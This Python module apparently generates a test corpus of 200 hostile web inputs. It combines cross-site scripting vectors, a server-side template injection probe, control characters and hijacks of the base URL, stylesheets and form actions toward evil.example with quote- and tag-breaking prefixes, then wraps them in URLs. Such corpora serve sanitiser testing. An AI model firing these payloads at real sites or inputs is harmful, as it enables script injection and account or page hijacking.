"""What a hostile site may put into a title, a name, an address or an error: two hundred of them."""

from __future__ import annotations

import html
import itertools
from urllib.parse import quote

VECTORS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css'; * { display: none }</style>",
    "<form action='//evil.example'><button autofocus onfocus=alert(1)>x</button></form>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xss id=x tabindex=1 onfocus=alert(1) style='display:block'>x</xss>",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${alert(1)}<%= alert(1) %>#{alert(1)}",
    "javascript:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>\u2066\x1b[2J\x9b",
)
BREAKS = (
    "{}",
    '">{}',
    "'>{}",
    "</title></textarea></style></script>{}",
    '" onmouseover=alert(1) autofocus onfocus=alert(1) x="{}',
    "--><!--{}",
    "]]>{}",
    "\x00\t\n{}\ud800",
)
PAYLOADS = tuple(brk.replace("{}", vector) for brk, vector in itertools.product(BREAKS, VECTORS))
URLS = tuple(
    address
    for payload in PAYLOADS
    for address in (
        f"https://evil.example/{payload}",
        payload,
        f"https://evil.example/?q={quote(payload, errors='replace')}",
        f"JaVaScRiPt:alert(1)//{html.escape(payload)}",
        f"https://evil.example@{payload}/",
    )
)
